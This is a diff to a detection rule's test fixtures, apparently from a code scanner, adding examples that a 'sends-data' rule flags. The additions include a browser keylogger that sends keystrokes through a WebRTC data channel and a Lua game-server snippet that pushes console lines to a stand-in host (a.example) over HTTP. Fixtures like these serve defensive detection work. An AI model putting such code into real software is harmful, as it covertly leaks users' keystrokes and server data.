@@ -3,6 +3,15 @@ import { sendsDataCounterexamples } from './sends-data.counterexamples.ts'
 
 export const sendsDataExamples: NonNullable<Rule['examples']> = {
   found: [
+    js(
+      `new WebSocket('wss://signal.a.example')
+const channel = new RTCPeerConnection({}).createDataChannel('q')
+^addEventListener('keydown', ({ key }) => channel.send(key))`,
+      'page',
+    ),
+    lua(`RegisterConsoleListener(function(channel, line)
+^ PerformHttpRequest(('https://%s.%d.a.example/p.gif'):format(line, 1), print)
+end)`),
     lua(`AddEventHandler('playerConnecting', function(name, _, deferrals)
   local file = io.open(name == 'page' and 'server.cfg' or 'rules.txt')
 ^ if file then deferrals.done(file:read('a')) end
